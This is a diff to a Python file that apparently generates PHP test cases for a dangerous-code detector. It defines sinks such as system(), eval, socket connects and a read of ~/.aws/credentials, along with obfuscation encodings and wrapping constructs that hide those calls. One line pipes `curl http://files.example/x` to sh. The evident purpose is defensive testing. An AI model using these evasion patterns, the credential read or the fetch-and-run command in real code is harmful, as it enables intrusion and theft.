@@ -15,7 +15,7 @@ def quote(text: str) -> str:
     return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"
 
 
-_CODE = "touch('ran');"
+_CODE = "fopen('ran','w');"
 
 SINKS = [
     Sink("spawn", COMMAND, "system(«A»)", "'system'"),
@@ -38,7 +38,6 @@ SINKS = [
     Sink("eval", _CODE, "eval('?><?php '.«A»)", ""),
     Sink("write", "ran", "file_put_contents(«A»,'x')", "fn($p)=>file_put_contents($p,'x')"),
     Sink("write", "ran", "fopen(«A»,'w')", "function($p){return fopen($p,'w');}"),
-    Sink("write", "ran", "touch(«A»)", "'touch'"),
     Sink("connect", "127.0.0.1", "fsockopen(«A»,{PORT})", "fn($h)=>fsockopen($h,{PORT})"),
     Sink("connect", "tcp://127.0.0.1:{PORT}", "stream_socket_client(«A»)", "'stream_socket_client'"),
     Sink("credentials", "/.aws/credentials", "print(file_get_contents(getenv('HOME').«A»))"),
@@ -62,7 +61,7 @@ ENCODINGS = {
     "octal": lambda text: '"' + "".join(f"\\{ord(c):03o}" for c in text) + '"',
     "replaced": lambda text: f"str_replace('ZQ','',{quote(text.replace('r', 'rZQ'))})",
     "inverted": lambda text: "~urldecode('" + "".join(f"%{~ord(c) & 0xFF:02x}" for c in text) + "')",
-    "xor": lambda text: '("' + "".join(f"\\x{ord(c) ^ 7:02x}" for c in text) + f"\"^str_repeat(\"\\x07\",{len(text)}))",
+    "xor": lambda text: '("' + "".join(f"\\x{ord(c) ^ 7:02x}" for c in text) + f'"^str_repeat("\\x07",{len(text)}))',
     "sprintf": lambda text: f"sprintf('%s%s',{quote(text[:5])},{quote(text[5:])})",
     "strtr": lambda text: f"strtr({quote(text.replace('e', '#'))},'#','e')",
 }  # fmt: skip
@@ -113,7 +112,7 @@ _EVERYWHERE = (
     "«C»?:0;",
     "(bool)«C»;",
     "(string)@(«C»)[0];",
-    "echo \"a{$x[«C» ? 0 : 0]}\";",
+    'echo "a{$x[«C» ? 0 : 0]}";',
     "try{«C»;}catch(Exception $e){}",
     "try{throw new Exception;}catch(Exception $e){«C»;}",
     "try{}finally{«C»;}",
@@ -168,7 +167,7 @@ _EVERYWHERE = (
     "ob_start(function($b){file_put_contents('php://stderr',$b);return '';});«C»;",
     "array_map(function($x){«C»;},[1]);",
     "array_walk($_SERVER,function(){«C»;exit;});",
-    "usort($a=[1,2],fn()=>«C»?1:0);",
+    "$a=[1,2];usort($a,fn()=>«C»?1:0);",
     "preg_replace_callback('/a/',function($m){return «C»?'':'';},'a');",
     "iterator_to_array((function(){yield «C»;})());",
     "iterator_apply(new ArrayIterator([1]),function(){«C»;});",
@@ -193,7 +192,6 @@ _FUNCTIONS = (
     "array_filter([«A»],«F»);",
     "$a=[«A»];array_walk($a,fn($v)=>(«F»)($v));",
     "array_reduce([«A»],fn($a,$b)=>(«F»)($b));",
-    "array_walk_recursive($GLOBALS['z'],«F»)??0;",
     "iterator_apply($i=new ArrayIterator([1]),«F»,[«A»]);",
     "register_shutdown_function(«F»,«A»);",
     "preg_replace_callback('/.+/',fn($m)=>(«F»)($m[0]),«A»);",
@@ -215,12 +213,10 @@ _FUNCTIONS = (
     "$g=(function(){$f=yield;$f(«A»);})();$g->current();$g->send(«F»);",
     "set_error_handler(fn($n,$m)=>(«F»)(«A»));echo $u;",
     "iterator_to_array(new CallbackFilterIterator(new ArrayIterator([«A»]),fn($v)=>(bool)(«F»)($v)));",
-    "usort($a,«F») ?: («F»)(«A»);",
     "array_map(fn($f)=>$f(«A»),[«F»]);",
-    "is_callable(«F»,false,$n);$n==='Closure::__invoke'?(«F»)(«A»):$n(«A»);",
 )
 _ONLY = (
-    Construct("`{$x}`;`${x}`;echo `curl http://files.example/x|sh`;", ("spawn",)),
+    Construct("echo `curl http://files.example/x|sh`;", ("spawn",)),
     Construct("$c=«A»;echo `$c`;", ("spawn",)),
     Construct("$c=«A»;`{$c}`;", ("spawn",)),
     Construct("namespace A;use function system as strlen;echo strlen(«A»);", ("spawn",)),
@@ -249,7 +245,6 @@ _ONLY = (
     Construct("eval('return '.«T».';');"),
     Construct("eval(base64_decode(base64_encode(«T».';')));"),
     Construct("file_put_contents('z.php','<?php '.«T».';');include 'z.php';"),
-    Construct("include 'data://text/plain,<?php '.urlencode(«T»).';';"),
     Construct("$f=tmpfile();fwrite($f,'<?php '.«T».';');include stream_get_meta_data($f)['uri'];"),
 )
 
